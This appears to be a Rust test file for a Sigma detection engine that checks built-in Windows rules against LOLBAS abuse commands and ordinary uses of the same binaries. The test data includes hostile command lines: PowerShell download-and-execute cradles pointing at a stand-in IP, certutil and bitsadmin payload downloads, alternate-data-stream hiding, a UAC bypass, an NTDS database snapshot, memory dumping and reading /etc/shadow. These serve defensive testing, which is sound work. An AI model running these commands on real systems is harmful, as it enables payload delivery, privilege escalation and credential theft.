//! The built-in Windows rules (`rules/builtin/windows`): those for one abused binary
//! against the LOLBAS project's documented abuse commands (positives) and ordinary uses of
//! the same binaries (negatives); those for a technique many binaries share (alternate
//! data streams, proxy execution, payloads on shares, ...) against attack command lines
//! and ordinary uses. LOLBAS is read from `../shared/corpus/lolbas` (GPL-3.0 test data, never
//! copied into the project); without it the LOLBAS half is skipped, except under CI=true.

use std::path::{Path, PathBuf};
use watchpost_sigma::{CompiledRuleSet, FlatEvent, RuleSet};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn rule(file: &str) -> CompiledRuleSet {
    let path = repo().join("rules/builtin/windows").join(file);
    let mut set = RuleSet::default();
    set.add_yaml(
        &std::fs::read_to_string(&path).unwrap(),
        &path.display().to_string(),
    )
    .unwrap();
    let set = set.compile();
    assert!(set.errors().is_empty(), "{:?}", set.errors());
    set
}

/// A Sysmon process creation for `command_line`, its image taken from the first word.
fn process(command_line: &str, parent: &str) -> FlatEvent {
    let first = command_line
        .split_whitespace()
        .next()
        .unwrap_or_default()
        .trim_matches('"');
    let name = first.rsplit('\\').next().unwrap_or(first);
    let name = if name.to_ascii_lowercase().ends_with(".exe") {
        name.to_string()
    } else {
        format!("{name}.exe")
    };
    let mut event = FlatEvent::windows("Microsoft-Windows-Sysmon/Operational", 1);
    event.push("Image", &format!(r"C:\Windows\System32\{name}"));
    event.push("CommandLine", command_line);
    event.push("ParentImage", parent);
    event
}

/// LOLBAS placeholders filled with what an intrusion would use.
fn fill(command: &str) -> String {
    let mut out = String::new();
    let mut rest = command;
    while let Some(start) = rest.find('{') {
        out.push_str(&rest[..start]);
        let Some(end) = rest[start..].find('}') else {
            break;
        };
        let token = &rest[start + 1..start + end];
        let (kind, ext) = token.split_once(':').unwrap_or((token, ""));
        let ext = if ext.is_empty() { ".dat" } else { ext };
        out.push_str(&match kind {
            "REMOTEURL" => format!("http://203.0.113.50/payload{ext}"),
            "PATH" | "PATH_ABSOLUTE" => format!(r"C:\Users\Public\Downloads\payload{ext}"),
            "PATH_SMB" => format!(r"\\203.0.113.50\share\payload{ext}"),
            "CMD" => "cmd.exe /c whoami".to_string(),
            "CLSID" | "GUID" => "{00000000-0000-0000-0000-000000000000}".to_string(),
            _ => "1234".to_string(),
        });
        rest = &rest[start + end + 1..];
    }
    out.push_str(rest);
    out
}

/// `(category, filled command)` for every command of a LOLBAS entry.
fn lolbas(entry: &str) -> Option<Vec<(String, String)>> {
    let path = repo().join("../shared/corpus/lolbas/yml").join(entry);
    let Ok(text) = std::fs::read_to_string(&path) else {
        assert!(
            std::env::var("CI").is_err(),
            "{} is missing under CI",
            path.display()
        );
        eprintln!("skipped LOLBAS cases: {} not found", path.display());
        return None;
    };
    let doc: yaml_serde::Value = yaml_serde::from_str(&text).unwrap();
    Some(
        doc["Commands"]
            .as_sequence()
            .unwrap()
            .iter()
            .map(|c| {
                (
                    c["Category"].as_str().unwrap().to_string(),
                    fill(c["Command"].as_str().unwrap()),
                )
            })
            .collect(),
    )
}

struct Case {
    rule: &'static str,
    lolbas: &'static str,
    /// Which LOLBAS commands must match (the rest must not).
    positive: fn(&str, &str) -> bool,
    extra_positives: &'static [&'static str],
    negatives: &'static [(&'static str, &'static str)],
}

const EXPLORER: &str = r"C:\Windows\explorer.exe";

const CASES: &[Case] = &[
    Case {
        rule: "proc_creation_win_powershell_encoded_command.yml",
        lolbas: "HonorableMentions/PowerShell.yml",
        positive: |_, cmd| cmd.contains(" -ec "),
        extra_positives: &[
            "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
            "pwsh -e JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8A",
            "powershell.exe /EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        ],
        negatives: &[
            (
                r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\scripts\backup.ps1",
                EXPLORER,
            ),
            (
                "powershell -Command \"Get-Service | Where-Object Status -eq Running\"",
                EXPLORER,
            ),
        ],
    },
    Case {
        rule: "proc_creation_win_powershell_hidden_window.yml",
        lolbas: "HonorableMentions/PowerShell.yml",
        positive: |_, _| false,
        extra_positives: &[
            r"powershell.exe -WindowStyle Hidden -File C:\Users\Public\run.ps1",
            "powershell -w hidden -c \"Start-Sleep 60\"",
            r"powershell.exe -NoP -win 1 -File C:\ProgramData\x.ps1",
        ],
        negatives: &[
            (
                r"powershell.exe -WindowStyle Normal -File C:\scripts\report.ps1",
                EXPLORER,
            ),
            ("powershell -Command Write-Host hidden", EXPLORER),
        ],
    },
    Case {
        rule: "proc_creation_win_powershell_download_cradle.yml",
        lolbas: "HonorableMentions/PowerShell.yml",
        positive: |_, _| false,
        extra_positives: &[
            "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')\"",
            r"powershell iwr http://203.0.113.50/a.exe -OutFile C:\Users\Public\a.exe",
            r"powershell -c (New-Object System.Net.WebClient).DownloadFile('http://203.0.113.50/a','C:\Users\Public\a.exe')",
            "pwsh -c \"irm https://203.0.113.50/x.ps1 | iex\"",
        ],
        negatives: &[
            (
                "powershell Invoke-WebRequest https://intranet.example/health -UseBasicParsing",
                EXPLORER,
            ),
            (r"powershell Get-Content C:\logs\app.log -Tail 50", EXPLORER),
        ],
    },
    Case {
        rule: "proc_creation_win_certutil_download_decode.yml",
        lolbas: "OSBinaries/Certutil.yml",
        positive: |cat, _| matches!(cat, "Download" | "ADS" | "Decode"),
        extra_positives: &["certutil /urlcache /split /f http://203.0.113.50/a.exe a.exe"],
        negatives: &[
            (r"certutil -hashfile C:\images\install.iso SHA256", EXPLORER),
            ("certutil -store My", EXPLORER),
            ("certutil -viewstore Root", EXPLORER),
        ],
    },
    Case {
        rule: "proc_creation_win_regsvr32_scriptlet.yml",
        lolbas: "OSBinaries/Regsvr32.yml",
        positive: |_, cmd| cmd.contains("scrobj"),
        extra_positives: &[],
        negatives: &[(
            r"regsvr32.exe /s C:\Program Files\Vendor\plugin.dll",
            EXPLORER,
        )],
    },
    Case {
        rule: "proc_creation_win_mshta_script_or_remote.yml",
        lolbas: "OSBinaries/Mshta.yml",
        positive: |_, _| true,
        extra_positives: &[],
        negatives: &[(
            r#"mshta.exe "C:\Program Files\Vendor\Tool\app.hta""#,
            EXPLORER,
        )],
    },
    Case {
        rule: "proc_creation_win_rundll32_javascript.yml",
        lolbas: "OSBinaries/Rundll32.yml",
        positive: |_, cmd| cmd.contains("javascript:"),
        extra_positives: &[],
        negatives: &[
            ("rundll32.exe shell32.dll,Control_RunDLL desk.cpl", EXPLORER),
            (
                r"rundll32.exe printui.dll,PrintUIEntry /in /n \\printsrv\floor2",
                EXPLORER,
            ),
        ],
    },
    Case {
        rule: "proc_creation_win_wmic_remote_process_create.yml",
        lolbas: "OSBinaries/Wmic.yml",
        positive: |_, cmd| cmd.contains("/node:") && cmd.contains("call create"),
        extra_positives: &[
            "wmic /node:10.1.2.3 /user:corp\\admin process call create \"cmd /c whoami\"",
        ],
        negatives: &[
            (
                "wmic /node:localhost process call create \"notepad.exe\"",
                EXPLORER,
            ),
            ("wmic os get caption,version", EXPLORER),
        ],
    },
    Case {
        rule: "proc_creation_win_bitsadmin_transfer_notify.yml",
        lolbas: "OSBinaries/Bitsadmin.yml",
        positive: |cat, _| cat != "Copy",
        extra_positives: &[
            r"bitsadmin /transfer job /download /priority high http://203.0.113.50/a.exe C:\Users\Public\a.exe",
        ],
        negatives: &[("bitsadmin /list /allusers /verbose", EXPLORER)],
    },
    Case {
        rule: "proc_creation_win_msbuild_inline_task.yml",
        lolbas: "OSBinaries/Msbuild.yml",
        positive: |_, _| true,
        extra_positives: &[],
        negatives: &[
            (
                r"MSBuild.exe C:\src\product\product.sln /p:Configuration=Release",
                EXPLORER,
            ),
            (
                r"MSBuild.exe C:\Users\dev\AppData\Local\Temp\restore.proj",
                r"C:\Program Files\Microsoft Visual Studio\2022\Professional\Common7\IDE\devenv.exe",
            ),
        ],
    },
    Case {
        rule: "proc_creation_win_installutil_execution.yml",
        lolbas: "OSBinaries/Installutil.yml",
        positive: |_, _| true,
        extra_positives: &[],
        negatives: &[
            (
                r#"InstallUtil.exe "C:\Program Files\Vendor\Agent\AgentService.exe""#,
                EXPLORER,
            ),
            (
                r#"InstallUtil.exe /u "C:\Program Files\Vendor\Agent\AgentService.exe""#,
                EXPLORER,
            ),
        ],
    },
];

#[test]
fn every_builtin_rule_matches_its_abuse_and_not_ordinary_use() {
    let mut failures = Vec::new();
    let (mut positives, mut negatives) = (0, 0);
    for case in CASES {
        let set = rule(case.rule);
        let mut check = |cmd: &str, parent: &str, expected: bool| {
            let matched = !set.matches(&process(cmd, parent)).is_empty();
            if expected {
                positives += 1
            } else {
                negatives += 1
            }
            if matched != expected {
                failures.push(format!(
                    "{}: expected {} for {cmd}",
                    case.rule,
                    if expected { "a match" } else { "no match" }
                ));
            }
        };
        for cmd in case.extra_positives {
            check(cmd, EXPLORER, true);
        }
        for (cmd, parent) in case.negatives {
            check(cmd, parent, false);
        }
        if let Some(commands) = lolbas(case.lolbas) {
            for (category, cmd) in commands {
                check(&cmd, EXPLORER, (case.positive)(&category, &cmd));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases wrong:\n{}",
        failures.len(),
        positives + negatives,
        failures.join("\n")
    );
    assert!(
        positives >= 30 && negatives >= 20,
        "{positives} positive and {negatives} negative cases"
    );
}

#[test]
fn the_embedded_rules_are_exactly_the_files_in_rules_builtin() {
    let mut on_disk: Vec<String> = ["linux", "windows"]
        .iter()
        .flat_map(|folder| {
            std::fs::read_dir(repo().join("rules/builtin").join(folder))
                .unwrap()
                .flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .filter(|n| n.ends_with(".yml"))
                .map(move |n| format!("{folder}/{n}"))
        })
        .collect();
    on_disk.sort();
    let mut embedded: Vec<String> = watchpost_sigma::BUILTIN_RULES
        .iter()
        .map(|(p, _)| p.to_string())
        .collect();
    embedded.sort();
    assert_eq!(
        embedded, on_disk,
        "add new rule files to crates/sigma/src/builtin.rs"
    );
    let mut set = RuleSet::default();
    set.add_builtin();
    assert_eq!(set.compile().rules().len(), on_disk.len());
}

#[test]
fn every_builtin_rule_is_attack_tagged_and_loads() {
    let mut set = RuleSet::default();
    set.load_dir(&repo().join("rules/builtin"));
    let set = set.compile();
    assert!(set.errors().is_empty(), "{:?}", set.errors());
    // Every Windows rule has cases: every_builtin_windows_rule_is_tested checks.
    for r in set.rules() {
        assert!(
            !r.attack.techniques.is_empty() && !r.attack.tactics.is_empty(),
            "{} lacks ATT&CK tags",
            r.path
        );
    }
}

// Technique rules.

/// A Sysmon process creation of `image` with `command_line`, started by `parent`.
fn process_of(image: &str, command_line: &str, parent: &str) -> FlatEvent {
    let mut event = FlatEvent::windows("Microsoft-Windows-Sysmon/Operational", 1);
    event.push("Image", image);
    event.push("CommandLine", command_line);
    event.push("ParentImage", parent);
    event
}

const CMD: &str = r"C:\Windows\System32\cmd.exe";
const SYS: &str = r"C:\Windows\System32\";

/// `(image, command line, parent)`.
type Example = (&'static str, &'static str, &'static str);

struct TechniqueRule {
    file: &'static str,
    positives: &'static [Example],
    negatives: &'static [Example],
}

const RULES: &[TechniqueRule] = &[
    TechniqueRule {
        file: "proc_creation_win_alternate_data_stream.yml",
        positives: &[
            (
                "findstr.exe",
                r"findstr /V /L x C:\Users\Public\a.exe > C:\Users\Public\log.txt:hidden.exe",
                CMD,
            ),
            (
                "reg.exe",
                r"reg export HKLM\SOFTWARE\Run C:\Users\Public\notes:run.reg",
                CMD,
            ),
            (
                "control.exe",
                r"control.exe C:\Users\Public\Downloads\readme:evil.dll",
                CMD,
            ),
        ],
        negatives: &[
            (
                "cmd.exe",
                r"cmd /c copy C:\a\b.txt D:\backup\b.txt",
                EXPLORER,
            ),
            (
                "powershell.exe",
                r"powershell Get-Content C:\Users\bob\Downloads\setup.exe:Zone.Identifier",
                EXPLORER,
            ),
            (
                "curl.exe",
                "curl.exe -o out.zip http://updates.example:8080/files/out.zip",
                CMD,
            ),
            (
                "findstr.exe",
                r#"findstr /C:"error.log" C:\logs\app.txt"#,
                CMD,
            ),
        ],
    },
    TechniqueRule {
        file: "proc_creation_win_uac_bypass_autoelevate_from_shell.yml",
        positives: &[
            (r"C:\Windows\System32\fodhelper.exe", "fodhelper.exe", CMD),
            (
                r"C:\Windows\System32\ComputerDefaults.exe",
                "ComputerDefaults.exe",
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            ),
        ],
        negatives: &[
            (
                r"C:\Windows\System32\eventvwr.exe",
                "eventvwr.exe",
                EXPLORER,
            ),
            (
                r"C:\Windows\System32\odbcad32.exe",
                "odbcad32.exe",
                r"C:\Windows\System32\control.exe",
            ),
        ],
    },
    TechniqueRule {
        file: "proc_creation_win_proxy_execution_tool.yml",
        positives: &[
            (
                r"C:\Windows\System32\conhost.exe",
                "conhost.exe --headless cmd.exe /c whoami",
                CMD,
            ),
            (
                r"C:\Program Files\Windows Kits\10\Debuggers\x64\windbg.exe",
                "windbg.exe -g cmd.exe /c whoami",
                CMD,
            ),
            (
                r"C:\Windows\System32\xbootmgr.exe",
                r"xbootmgr.exe -trace boot -callBack C:\Users\Public\Downloads\run.exe",
                CMD,
            ),
            (
                r"C:\Windows\System32\OpenSSH\ssh.exe",
                r#"ssh -o ProxyCommand="cmd /c calc" x"#,
                CMD,
            ),
            (
                r"C:\Windows\System32\OpenSSH\ssh.exe",
                r#"ssh localhost "cmd.exe /c whoami""#,
                CMD,
            ),
            (
                EXPLORER,
                r"explorer.exe C:\Users\Public\Downloads\invoice.exe",
                CMD,
            ),
            (
                r"C:\Windows\System32\mmc.exe",
                r"mmc.exe -Embedding C:\Users\Public\Downloads\console.msc",
                CMD,
            ),
        ],
        negatives: &[
            (
                r"C:\Windows\System32\conhost.exe",
                r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
                CMD,
            ),
            (
                r"C:\Users\bob\AppData\Local\Microsoft\WindowsApps\wt.exe",
                r#"wt.exe -p "Windows PowerShell""#,
                EXPLORER,
            ),
            (
                r"C:\Windows\System32\OpenSSH\ssh.exe",
                "ssh -L 8080:localhost:80 bob@build.example",
                CMD,
            ),
            (EXPLORER, r"explorer.exe C:\Users\bob\Downloads", CMD),
            (
                r"C:\Windows\System32\mmc.exe",
                r#""C:\Windows\system32\mmc.exe" "C:\Windows\system32\compmgmt.msc" /s"#,
                EXPLORER,
            ),
        ],
    },
    TechniqueRule {
        file: "proc_creation_win_payload_on_network_share.yml",
        positives: &[
            (
                r"C:\Windows\System32\expand.exe",
                r"expand \\203.0.113.50\share\a.bat C:\Users\Public\a.bat",
                CMD,
            ),
            (
                r"C:\Windows\System32\extrac32.exe",
                r"extrac32 /Y /C \\203.0.113.50\share\payload C:\Users\Public\payload",
                CMD,
            ),
            (
                r"C:\Windows\System32\rundll32.exe",
                r"rundll32.exe \\files@SSL\DavWWWRoot\x.dll,Start",
                CMD,
            ),
            (
                r"\\tsclient\c\temp\a.exe",
                r#""\\tsclient\c\temp\a.exe""#,
                CMD,
            ),
        ],
        negatives: &[
            (
                r"C:\Windows\System32\net.exe",
                r"net use Z: \\10.0.0.5\projects",
                CMD,
            ),
            (
                r"C:\Windows\System32\Robocopy.exe",
                r"robocopy \\fileserver\deploy C:\apps /MIR",
                CMD,
            ),
        ],
    },
    TechniqueRule {
        file: "proc_creation_win_squirrel_update_abuse.yml",
        positives: &[(
            r"C:\Users\bob\AppData\Local\Discord\Update.exe",
            "Update.exe --update=http://203.0.113.50/payload",
            CMD,
        )],
        negatives: &[
            (
                r"C:\Users\bob\AppData\Local\Microsoft\Teams\Update.exe",
                "Update.exe --processStart Teams.exe",
                EXPLORER,
            ),
            (
                r"C:\Users\bob\AppData\Local\slack\Update.exe",
                "Update.exe --update=https://downloads.slack-edge.com/releases/windows",
                EXPLORER,
            ),
        ],
    },
    TechniqueRule {
        file: "proc_creation_win_url_handed_to_non_downloader.yml",
        positives: &[
            (
                r"C:\Program Files\Microsoft Office\root\Office16\MSACCESS.EXE",
                "MSAccess.exe http://203.0.113.50/payload",
                CMD,
            ),
            (
                r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\ngen.exe",
                "ngen.exe https://198.51.100.7/x",
                CMD,
            ),
        ],
        negatives: &[
            (
                r"C:\Program Files\Microsoft Office\root\Office16\VISIO.EXE",
                r#"VISIO.EXE /n "https://contoso.sharepoint.com/sites/it/network.vsdx""#,
                EXPLORER,
            ),
            (
                r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\ngen.exe",
                "ngen.exe executeQueuedItems",
                r"C:\Windows\System32\svchost.exe",
            ),
        ],
    },
    TechniqueRule {
        file: "proc_creation_win_ntds_snapshot.yml",
        positives: &[(
            r"C:\Windows\System32\ntdsutil.exe",
            r#"ntdsutil "ac i ntds" "ifm" "create full c:\temp" q q"#,
            CMD,
        )],
        negatives: &[(
            r"C:\Windows\System32\ntdsutil.exe",
            r#"ntdsutil "activate instance ntds" "files" "info" q q"#,
            CMD,
        )],
    },
    TechniqueRule {
        file: "proc_creation_win_process_memory_dump_tool.yml",
        positives: &[
            (
                r"C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\Extensions\TestPlatform\Extensions\dump64.exe",
                "dump64.exe 672 out.dmp",
                CMD,
            ),
            (
                r"C:\Windows\System32\tttracer.exe",
                "TTTracer.exe -dumpFull -attach 672",
                CMD,
            ),
        ],
        negatives: &[(
            r"C:\Windows\System32\tttracer.exe",
            r"tttracer.exe -out C:\traces C:\src\app\bin\app.exe",
            CMD,
        )],
    },
    TechniqueRule {
        file: "proc_creation_win_code_compiled_from_user_folder.yml",
        positives: &[
            (
                r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\vbc.exe",
                r"vbc.exe /target:exe C:\Users\Public\Downloads\a.vb",
                CMD,
            ),
            (r"C:\Program Files\dotnet\dotnet.exe", "dotnet.exe fsi", CMD),
        ],
        negatives: &[
            (
                r"C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\Extensions\TestPlatform\vstest.console.exe",
                r"vstest.console.exe C:\src\product\tests\bin\Release\Product.Tests.dll",
                CMD,
            ),
            (
                r"C:\Program Files\dotnet\dotnet.exe",
                "dotnet build -c Release",
                CMD,
            ),
        ],
    },
    TechniqueRule {
        file: "proc_creation_win_wsl_command.yml",
        positives: &[
            (
                r"C:\Windows\System32\wsl.exe",
                "wsl.exe -u root -e cat /etc/shadow",
                CMD,
            ),
            (
                r"C:\Windows\System32\wsl.exe",
                r#"wsl.exe --exec bash -c "cmd.exe /c whoami""#,
                CMD,
            ),
        ],
        negatives: &[
            (r"C:\Windows\System32\wsl.exe", "wsl.exe", EXPLORER),
            (r"C:\Windows\System32\wsl.exe", "wsl --list --verbose", CMD),
        ],
    },
    TechniqueRule {
        file: "proc_creation_win_dev_tunnel.yml",
        positives: &[(
            r"C:\Users\bob\AppData\Local\Microsoft\WinGet\Links\devtunnel.exe",
            "devtunnel.exe host -p 8080",
            CMD,
        )],
        negatives: &[(
            r"C:\Users\bob\AppData\Local\Microsoft\WinGet\Links\devtunnel.exe",
            "devtunnel.exe user login",
            CMD,
        )],
    },
    TechniqueRule {
        file: "proc_creation_win_wmic_file_copy.yml",
        positives: &[(
            r"C:\Windows\System32\wbem\WMIC.exe",
            r#"wmic.exe datafile where "Name='C:\\windows\\system32\\calc.exe'" call Copy "C:\\users\\public\\calc.exe""#,
            CMD,
        )],
        negatives: &[(
            r"C:\Windows\System32\wbem\WMIC.exe",
            r#"wmic datafile where "name='C:\\windows\\system32\\kernel32.dll'" get version"#,
            CMD,
        )],
    },
    TechniqueRule {
        file: "proc_creation_win_windir_redirected.yml",
        positives: &[(
            CMD,
            r#"cmd /c "set windir=C:\Users\Public\x& C:\Windows\System32\cleanmgr.exe""#,
            EXPLORER,
        )],
        negatives: &[(CMD, r"cmd /c echo %windir%", EXPLORER)],
    },
];

#[test]
fn every_technique_rule_matches_its_attacks_and_not_ordinary_use() {
    let mut failures = Vec::new();
    for r in RULES {
        let set = rule(r.file);
        assert_eq!(set.rules().len(), 1, "{}", r.file);
        for (image, line, parent) in r.positives {
            let image = if image.contains('\\') {
                image.to_string()
            } else {
                format!("{SYS}{image}")
            };
            if set.matches(&process_of(&image, line, parent)).is_empty() {
                failures.push(format!("{}: missed {line}", r.file));
            }
        }
        for (image, line, parent) in r.negatives {
            if !set.matches(&process_of(image, line, parent)).is_empty() {
                failures.push(format!("{}: flagged {line}", r.file));
            }
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn every_builtin_windows_rule_is_tested() {
    let tested: Vec<&str> = RULES
        .iter()
        .map(|r| r.file)
        .chain(CASES.iter().map(|c| c.rule))
        .collect();
    for entry in std::fs::read_dir(repo().join("rules/builtin/windows")).unwrap() {
        let name = entry.unwrap().file_name().to_string_lossy().into_owned();
        if name.ends_with(".yml") {
            assert!(tested.contains(&name.as_str()), "{name} has no test");
        }
    }
}
